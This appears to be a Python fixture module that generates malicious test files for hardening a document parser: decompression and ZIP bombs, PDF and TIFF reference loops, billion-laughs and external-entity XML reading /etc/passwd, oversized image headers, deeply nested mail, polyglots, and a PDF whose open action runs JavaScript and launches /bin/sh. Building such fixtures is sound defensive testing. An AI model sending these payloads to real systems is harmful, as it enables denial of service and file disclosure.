"""Files that want to do harm, made by code: bombs, lies, loops. Each is small here and large where it is believed."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

MANY = 200_000


def pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of those objects, numbered from 1, the first of them its root; readers find them without a list."""
    out = b"%PDF-1.5\n"
    for number, body in enumerate(objects, start=1):
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    return out + b"trailer<</Root 1 0 R/Size %d%s>>\n%%%%EOF\n" % (len(objects) + 1, trailer)


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%s>>stream\n%s\nendstream" % (len(data), more, data)


_ROOT = b"<</Type/Catalog/Pages 2 0 R>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_SAYS = b"BT /F 12 Tf 20 100 Td (Senor ministro: se remite el convenio) Tj ET"


def page(
    *, content: bytes = stream(_SAYS), box: bytes = b"0 0 300 200", resources: bytes = b"", more: tuple[bytes, ...] = ()
) -> bytes:
    """A PDF of one page; `more` objects are numbered from 6."""
    return pdf(
        _ROOT,
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>%s>>>>" % (box, resources),
        content,
        _FONT,
        *more,
    )


def a_million_pages_claimed() -> bytes:
    """One page that says it is a million."""
    return pdf(
        _ROOT,
        b"<</Type/Pages/Kids[3 0 R]/Count 1000000>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )


def a_million_pages_shared() -> bytes:
    """Six levels of ten kids that are each time the same: a million pages in a kilobyte."""
    tree = [
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (10 ** (6 - level), b" ".join([b"%d 0 R" % (level + 3)] * 10))
        for level in range(6)
    ]
    return pdf(_ROOT, *tree, b"<</Type/Page/MediaBox[0 0 9 9]>>")


def pages_in_a_circle() -> bytes:
    """A page tree whose branches hold their trunk."""
    return pdf(_ROOT, b"<</Type/Pages/Kids[3 0 R 2 0 R]/Count 9>>", b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R]/Count 9>>")


def forms_in_a_circle() -> bytes:
    """A drawing that draws itself, and two that draw each other ten times: 10^n strokes for whoever follows."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    return page(
        content=stream(b"/X Do " * 10 + _SAYS),
        resources=b"/XObject<</X 6 0 R>>",
        more=(stream(b"/X Do " * 10, form % 7), stream(b"/X Do " * 10, form % 6)),
    )


def forms_that_multiply() -> bytes:
    """Twelve drawings of which each draws the next ten times: no circle, and 10^12 strokes."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    return page(
        content=stream(b"/X Do " * 10 + _SAYS),
        resources=b"/XObject<</X 6 0 R>>",
        more=(*(stream(b"/X Do " * 10, form % (7 + n)) for n in range(12)), stream(b"0 0 9 9 re f", form % 1)),
    )


def glyphs_in_a_circle() -> bytes:
    """A font whose letter is drawn with that letter."""
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 7 0 R>>/FirstChar 97"
        b"/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/Resources<</Font<</T 6 0 R>>>>>>"
    )
    return page(
        content=stream(b"BT /T 9 Tf (aaaa) Tj ET " + _SAYS),
        resources=b"/Font<</F 5 0 R/T 6 0 R>>",
        more=(font, stream(b"9 0 d0 BT /T 9 Tf (aaaa) Tj ET")),
    )


def a_font_that_lies() -> bytes:
    """Widths below nothing and beyond all, a map that gives each letter a thousand, a file that is none."""
    font = (
        b"<</Type/Font/Subtype/TrueType/BaseFont/X/FirstChar -5/LastChar 2147483647/Widths[-1 1e38 0 99999999999]"
        b"/ToUnicode 7 0 R/FontDescriptor<</Type/FontDescriptor/Flags 4/FontFile2 8 0 R>>>>"
    )
    many = b"1 beginbfrange <00> <ff> <%s> endbfrange" % (b"0041" * 1000)
    return page(
        content=stream(b"BT /L 12 Tf 20 50 Td (abcdefghijklmnopqrstuvwxyz) Tj ET " + _SAYS),
        resources=b"/Font<</F 5 0 R/L 6 0 R>>",
        more=(font, stream(many), stream(b"\x00\x01\x00\x00\xff\xff" + b"\xff" * 5000)),
    )


def a_pdf_nested_deep() -> bytes:
    """Arrays and dictionaries in one another, a hundred thousand deep."""
    return page(resources=b"/X " + b"[" * MANY + b"]" * MANY + b"/Y " + b"<</Z" * MANY + b" 1" + b">>" * MANY)


def a_page_like_a_country() -> bytes:
    """A sheet ten kilometres wide, with something on it that has to be looked at."""
    return page(content=stream(b"0 0 5 5 re f"), box=b"0 0 30000000 30000000")


def a_page_of_no_size() -> bytes:
    """Numbers of a box that no number can hold."""
    return page(box=b"0 0 1e99999 -99999999999999999999999")


def squeezed_twice() -> bytes:
    """Three hundred megabytes of nothing to draw, packed twice into a few hundred bytes."""
    packed = zlib.compress(zlib.compress(b" " * 300_000_000, 9), 9)
    return page(content=stream(packed, b"/Filter[/FlateDecode/FlateDecode]"))


def lists_in_a_circle() -> bytes:
    """The table of objects says that the one before it is itself."""
    body = b"%PDF-1.5\n"
    return body + b"xref\n0 1\n0000000000 65535 f \ntrailer<</Size 1/Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF\n"


def objects_in_a_circle() -> bytes:
    """A length that is told by the object whose length it is, and objects packed into themselves."""
    return pdf(
        b"<</Type/Catalog/Pages 2 0 R/Extends 4 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 3 0 R>>",
        b"<</Type/Page/Parent 3 0 R/MediaBox 3 0 R/Contents 4 0 R/Resources 3 0 R>>",
        b"<</Type/ObjStm/N 1/First 4/Extends 4 0 R/Length 4 0 R>>stream\n4 0 4 0 R\nendstream",
    )


def picture_in_a_pdf(how: bytes, data: bytes = b"\x00" * 50) -> bytes:
    """A page that is a picture of 60000 by 60000 pixels, it says."""
    claims = b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/%s"
    return page(
        content=stream(b"300 0 0 200 0 0 cm /X Do"),
        resources=b"/XObject<</X 6 0 R>>",
        more=(stream(data, claims % how),),
    )


def jpx() -> bytes:
    """The head of a JPEG 2000 picture of 60000 by 60000 pixels in three colours."""
    size = struct.pack(">HIIIIIIIIH", 0, 60000, 60000, 0, 0, 60000, 60000, 0, 0, 3) + b"\x07\x01\x01" * 3
    return b"\xff\x4f\xff\x51" + struct.pack(">H", len(size) + 2) + size + b"\xff\x90\x00\x0a" + bytes(60)


def jbig2() -> bytes:
    """A page of JBIG2 that says it has 60000 by 60000 dots, and a region of as many."""
    about = struct.pack(">IIIIBH", 60000, 60000, 0, 0, 0, 0)
    region = struct.pack(">IIIIB", 60000, 60000, 0, 0, 0) + b"\x00" + b"\x03\xff\xfd\xff\x02\xfe\xfe\xfe" + bytes(30)
    first = struct.pack(">IBBBI", 0, 48, 0, 1, len(about)) + about
    return first + struct.pack(">IBBBI", 1, 38, 0, 1, len(region)) + region


# ---------------------------------------------------------------- pictures


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *chunks: tuple[bytes, bytes], rows: bytes | None = None) -> bytes:
    """A grey PNG that claims that size, with those chunks before its dots."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    rows = zlib.compress(b"\x00" + b"\xff" * 100) if rows is None else rows
    parts = ((b"IHDR", head), *chunks, (b"IDAT", rows), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(*part) for part in parts)


def png_with_packed_words() -> bytes:
    """Chunks that are said to be remarks and a colour profile, and unpack to a hundred megabytes each."""
    packed = zlib.compress(b"a" * 100_000_000, 9)
    return png(9, 9, (b"iCCP", b"x\0\0" + packed), (b"zTXt", b"x\0\0" + packed), (b"iTXt", b"x\0\1\0\0\0" + packed))


def _tiff(frames: int, after: Callable[[int], int]) -> bytes:
    """A TIFF of frames of one dot; `after(n)` gives the number of the one that is said to follow."""
    tags = [(256, 1), (257, 1), (258, 8), (259, 1), (262, 1), (273, 4), (277, 1), (278, 1), (279, 1)]
    size = 2 + 12 * len(tags) + 4
    out = io.BytesIO()
    out.write(b"II*\0" + struct.pack("<I", 8))
    for number in range(frames):
        out.write(struct.pack("<H", len(tags)))
        for tag, value in tags:
            out.write(struct.pack("<HHII", tag, 4, 1, value))
        follows = after(number)
        out.write(struct.pack("<I", 8 + size * follows if follows >= 0 else 0))
    return out.getvalue()


def tiff_in_a_circle() -> bytes:
    """Three frames, of which the first follows the last."""
    return _tiff(3, lambda n: (n + 1) % 3)


def tiff_without_end() -> bytes:
    """Tens of thousands of frames."""
    return _tiff(MANY // 4, lambda n: n + 1 if n + 1 < MANY // 4 else -1)


def jpeg_with_late_height() -> bytes:
    """A JPEG of no height that tells it after the dots: 65535 lines."""
    table = b"\xff\xdb\x00\x43\x00" + b"\x01" * 64
    head = b"\xff\xc0\x00\x0b\x08" + struct.pack(">HH", 0, 65535) + b"\x01\x01\x11\x00"
    scan = b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x00" * 50
    return b"\xff\xd8" + table + head + scan + b"\xff\xdc\x00\x04\xff\xff\xff\xd9"


# ---------------------------------------------------------------- containers


def archive(*members: tuple[str, bytes]) -> bytes:
    """A ZIP of those members."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in members:
            made.writestr(name, data)
    return out.getvalue()


def dolls(depth: int = 8) -> bytes:
    """An archive in an archive in an archive, as one that holds itself would be to whoever unpacks it."""
    data = archive(("fondo.txt", b"hondo"))
    for _ in range(depth):
        data = archive(("caja.zip", data))
    return data


def one_body_many_names(names: int = 100, data: bytes = b"\0" * 900_000) -> bytes:
    """Members that all lie over one another: the same bytes are unpacked again for each."""
    whole = archive(("a", data))
    at = whole.rfind(b"PK\x01\x02")
    entry = whole[at : whole.rfind(b"PK\x05\x06")]
    listed = entry * names
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, names, names, len(listed), at, 0)
    return whole[:at] + listed + end


def a_million_names() -> bytes:
    """A list of a million members, and not one of them there."""
    many = 1_000_000
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 33, 0, 1, 1, 1, 0, 0, 0, 0, 0, 0) + b"a"
    big = struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 45, 45, 0, 0, many, many, len(entry) * many, 4)
    where = struct.pack("<4sIQI", b"PK\x06\x07", 0, 4 + len(entry) * many, 1)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return b"PK\x03\x04" + entry * many + big + where + end


def sizes_that_lie() -> bytes:
    """A member that says it is five bytes long and unpacks to five megabytes."""
    data = bytearray(archive(("a.txt", b"hola " * 1_000_000)))
    for start in (0, data.rfind(b"PK\x01\x02")):
        at = start + (22 if start == 0 else 24)
        data[at : at + 4] = struct.pack("<I", 5)
    return bytes(data)


W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(body: bytes) -> bytes:
    """A DOCX with that body."""
    return archive(("[Content_Types].xml", b"<x/>"), ("word/document.xml", body))


def billion_laughs() -> bytes:
    """Ten entities of which each says the one before ten times."""
    said = b"".join(b'<!ENTITY e%d "%s">' % (n + 1, b"&e%d;" % n * 10) for n in range(10))
    return docx(b'<!DOCTYPE l [<!ENTITY e0 "ja">' + said + b"]><w:p " + W + b"><w:t>&e10;</w:t></w:p>")


def entity_from_outside() -> bytes:
    """An entity that is said to stand in a file of this machine."""
    return docx(b'<!DOCTYPE l [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:p ' + W + b"><w:t>&e;</w:t></w:p>")


def docx_nested_deep() -> bytes:
    """Tables in tables in tables."""
    cell = b"<w:tbl><w:tr><w:tc>"
    shut = b"</w:tc></w:tr></w:tbl>"
    body = cell * (MANY // 10) + b"<w:p><w:t>hondo</w:t></w:p>" + shut * (MANY // 10)
    return docx(b"<w:x " + W + b">" + body + b"</w:x>")


# ---------------------------------------------------------------- mail

_HEAD = b"From: a@example.org\nTo: b@example.org\nDate: Mon, 01 Jan 2024 10:00:00 -0500\n"


def mail_nested_deep() -> bytes:
    """Parts in parts in parts."""
    parts = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(MANY // 2))
    return _HEAD + b"Subject: s\n" + parts + b"\nhola\n"


def mails_in_mails() -> bytes:
    """Mails in mails in mails."""
    return (_HEAD + b"Subject: s\nContent-Type: message/rfc822\n\n") * (MANY // 20) + _HEAD + b"\nhola\n"


def mail_with_a_long_head(size: int = 100_000_000) -> bytes:
    """A subject of a hundred megabytes."""
    return _HEAD + b"Subject: " + b"=?utf-8?q?=C3=B1?= <a@b>, " * (size // 26) + b"\n\nhola\n"


def mail_of_many_addresses() -> bytes:
    """Receivers without end, in groups without end."""
    return b"From: a@b\nTo: " + b"a:<@b,@c:(((((" * 20_000 + b"\nSubject: s\nDate: d\n\nhola\n"


def mail_with_tricky_borders() -> bytes:
    """One border for parts and parts of parts, one that is empty, one that nobody ever uses."""
    return (
        _HEAD
        + b"Subject: s\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: multipart/mixed; boundary=x\n\n"
        + b'--x\nContent-Type: multipart/mixed; boundary=""\n\n--\n--x\n\nhola\n--x--x\n--x--\n'
    )


# ---------------------------------------------------------------- two things at once


def polyglot_pdf_zip() -> bytes:
    """A PDF to whoever begins at the front, an archive to whoever begins at the back."""
    return page() + archive(("malo.txt", b"malo"))


def polyglot_zip_pdf() -> bytes:
    """An archive whose first member is a PDF as it is: both readers accept it from the front."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("convenio.pdf", page())
    return out.getvalue()


def polyglot_gif_html() -> bytes:
    """A picture that is a page with a script."""
    return b"GIF89a/*<html><script>*/=1;alert(1)</script><body>hola" + bytes(30)


def polyglot_png_zip() -> bytes:
    """A picture with an archive behind its end."""
    return png(9, 9, rows=zlib.compress((b"\0" + b"\xff" * 9) * 9)) + archive(("malo.txt", b"malo"))


def pdf_with_deeds() -> bytes:
    """A PDF that wants to run a script, start a program and send a form as it is opened."""
    acts = (
        b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://example.org'\\))>>",
        b"/AA<</WC<</S/Launch/F(/bin/sh)>>>>",
    )
    return page().replace(b"<</Type/Catalog", b"<</Type/Catalog" + b"".join(acts))
